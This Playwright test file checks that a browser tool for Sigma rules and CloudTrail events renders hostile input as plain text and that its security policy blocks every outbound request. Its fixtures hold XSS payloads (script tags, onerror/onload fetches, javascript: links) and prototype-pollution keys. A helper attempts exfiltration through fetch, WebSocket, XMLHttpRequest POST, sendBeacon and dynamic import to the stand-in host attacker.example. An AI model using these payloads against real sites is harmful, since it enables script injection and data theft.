// Nothing leaves the browser: whatever a rule or an event says, the page and its workers ask for files of the build and
// nothing else, and the policy stops what would try. That every other story stays silent too is held by test.ts.
import type { Page, Worker } from '@playwright/test';
import { expect, test } from './test';

const RULE = `title: <img src="https://attacker.example/title.png" onerror="fetch('https://attacker.example/')">
description: <script src="https://attacker.example/a.js"></script> [link](https://attacker.example/)
references:
  - https://attacker.example/reference
  - javascript:alert(1)
logsource:
  product: aws
  service: cloudtrail
detection:
  __proto__:
    userAgent|contains: https://attacker.example/agent
  constructor:
    requestParameters.__proto__.polluted: 'yes'
  selection:
    eventName:
      - <img src=https://attacker.example/event.png>
      - <script>fetch('https://attacker.example/')</script>
  condition: selection or __proto__ or constructor
`;

const EVENTS = `{"eventName":"<img src=https://attacker.example/event.png>","eventSource":"https://attacker.example/","__proto__":{"polluted":"yes"},"userAgent":"<svg onload=fetch('https://attacker.example/')>"}
{"eventName":"<script>fetch('https://attacker.example/')</script>","userIdentity":{"arn":"https://attacker.example/arn"},"sourceIPAddress":"attacker.example"}
{"eventName":"X","requestParameters":{"__proto__":{"polluted":"yes"},"constructor":{"prototype":{"polluted":"yes"}}},"errorMessage":"data:text/html,<script>1</script>"}
`;

/** The two files, as a person picks them. */
async function open(page: Page): Promise<void> {
  await page.goto('./');
  await page.getByLabel('Files of events or rules').setInputFiles([
    { name: 'events.ndjson', mimeType: 'application/x-ndjson', buffer: Buffer.from(EVENTS) },
    { name: 'rule.yml', mimeType: 'text/yaml', buffer: Buffer.from(RULE) },
  ]);
  await expect(page.getByText('NDJSON, 3 records')).toBeVisible();
  await expect(page.getByRole('gridcell', { name: 'match', exact: true })).toHaveCount(3);
}

/** The rule's editor, with everything it loads. */
async function edit(page: Page): Promise<void> {
  await page.getByRole('button', { name: 'Edit', exact: true }).first().click();
  const editor = page.getByRole('textbox', { name: /^Rule text\. / });
  await expect(async () => {
    await editor.focus();
    await expect(editor).toBeFocused({ timeout: 500 });
  }).toPass();
}

test('text of rules and events stays text', async ({ page, witness }) => {
  await open(page);
  for (const name of ['1 <img', '2 <script', '3 X']) {
    await page.getByRole('rowheader', { name }).click();
    await expect(page.getByRole('region', { name: 'Verdict' })).toContainText('match');
  }
  await edit(page);
  await expect(page.locator('[src*="attacker"], [href*="attacker"]')).toHaveCount(0);
  const polluted = () => 'polluted' in {};
  expect(await page.evaluate(polluted)).toBe(false);
  for (const worker of page.workers()) expect(await worker.evaluate(polluted)).toBe(false);
  expect(witness.requests.filter((url) => url.includes('attacker'))).toEqual([]);
});

test('once editor and worker are up, nothing more is requested', async ({ page, witness }) => {
  await open(page);
  await edit(page);
  await page.waitForLoadState('networkidle');
  const before = [...witness.requests];
  await page.keyboard.press('Control+End');
  await page.keyboard.type('# https://attacker.example/typed');
  await page.getByRole('rowheader', { name: '<script' }).click();
  await page.getByRole('button', { name: 'Paste' }).click();
  await page.getByLabel('Events as JSON').fill('{"eventName":"https://attacker.example/pasted"}');
  await page.getByRole('button', { name: 'Read events' }).click();
  await expect(page.getByText('1 record', { exact: false }).first()).toBeVisible();
  await page.waitForTimeout(1000);
  expect(witness.requests).toEqual(before);
});

/** Runs inside page or worker: every way out, and what came of it. From a timer, since the debugger is above the policy. */
function tryEverything(): Promise<Record<string, string>> {
  const away = 'https://attacker.example/';
  const ways: Record<string, () => unknown> = {
    /* eslint-disable no-eval, no-new-func, @typescript-eslint/no-implied-eval -- to see them blocked */
    eval: () => (0, eval)('1') as unknown,
    Function: () => new Function('return 1'),
    /* eslint-enable */
    fetch: () => fetch(away),
    'fetch, own host': () => fetch(`${location.origin}/some/where/?stolen`),
    import: () => import(/* @vite-ignore */ `${away}a.js`),
    WebSocket: () =>
      new Promise((resolve, reject) => {
        const socket = new WebSocket('wss://attacker.example/');
        socket.onopen = resolve;
        socket.onerror = () => reject(new Error('blocked'));
      }),
    EventSource: () =>
      new Promise((resolve, reject) => {
        const source = new EventSource(away);
        source.onopen = resolve;
        source.onerror = () => reject(new Error('blocked'));
      }),
    XMLHttpRequest: () =>
      new Promise((resolve, reject) => {
        const request = new XMLHttpRequest();
        request.onload = resolve;
        request.onerror = () => reject(new Error('blocked'));
        request.open('POST', away);
        request.send('stolen');
      }),
  };
  return new Promise((resolve) => {
    setTimeout(() => {
      const tries = Object.entries(ways).map(async ([way, go]) => {
        const patience = new Promise<string>((done) => setTimeout(done, 5000, 'no answer'));
        const went = async (): Promise<string> => {
          try {
            await go();
            return 'went through';
          } catch {
            return 'blocked';
          }
        };
        return [way, await Promise.race([went(), patience])] as const;
      });
      void Promise.all(tries).then((done) => resolve(Object.fromEntries(done)));
    });
  });
}

const ALL_BLOCKED = Object.fromEntries(
  [
    'eval',
    'Function',
    'fetch',
    'fetch, own host',
    'import',
    'WebSocket',
    'EventSource',
    'XMLHttpRequest',
  ].map((way) => [way, 'blocked']),
);

test('the policy blocks every way out of the page and of each worker', async ({
  page,
  witness,
}) => {
  await open(page);
  await edit(page);
  const workers = page.workers();
  expect(workers.length).toBeGreaterThan(0);
  const places: (Page | Worker)[] = [page, ...workers];
  for (const place of places) {
    const where = place === page ? 'page' : place.url();
    expect(await (place as Page).evaluate(tryEverything), where).toEqual(ALL_BLOCKED);
  }
  const provoked = await witness.forgive(/attacker\.example|stolen|Trusted|eval|Refused|violates/i);
  expect(provoked.filter((text) => text.startsWith('socket:'))).toEqual([]);
  expectBlocked(provoked);
});

test('what looks at bytes may run, in the page and in each worker', async ({ page }) => {
  await open(page);
  /** From a timer: the debugger is above the policy. */
  const starts = () =>
    new Promise((resolve) => {
      setTimeout(() => {
        try {
          resolve(new WebAssembly.Module(Uint8Array.of(0, 0x61, 0x73, 0x6d, 1, 0, 0, 0)) !== null);
        } catch (error) {
          resolve(String(error));
        }
      });
    });
  expect(await page.evaluate(starts)).toBe(true);
  for (const worker of page.workers()) expect(await worker.evaluate(starts)).toBe(true);
});

test('the policy blocks what markup could fetch', async ({ page, witness }) => {
  await page.goto('./');
  await page.evaluate(() => {
    const away = 'https://attacker.example/';
    const add = (tag: string, attributes: Record<string, string>) => {
      const element = document.createElement(tag);
      for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
      document.body.append(element);
    };
    add('img', { src: `${away}a.png` });
    add('link', { rel: 'stylesheet', href: `${away}a.css` });
    add('link', { rel: 'prefetch', href: `${away}b.js` });
    add('video', { src: `${away}a.mp4` });
    navigator.sendBeacon(away, 'stolen');
  });
  await page.waitForTimeout(500);
  const provoked = await witness.forgive(/attacker\.example/);
  const violated = provoked.filter((text) => text.startsWith('policy:'));
  for (const directive of ['img-src', 'style-src-elem', 'media-src', 'connect-src']) {
    expect(
      violated.some((text) => text.includes(directive)),
      directive,
    ).toBe(true);
  }
  expectBlocked(provoked);
});

/** The browser tells of some requests before the policy stops them: each of these must have ended there. */
function expectBlocked(provoked: readonly string[]): void {
  const asked = provoked.filter((text) => text.startsWith('request:'));
  const blocked = provoked.filter((text) => /^failed: .* csp$/.test(text));
  expect(blocked.map((text) => text.replace(/^failed: (.*) csp$/, 'request: $1')).sort()).toEqual(
    asked.sort(),
  );
}
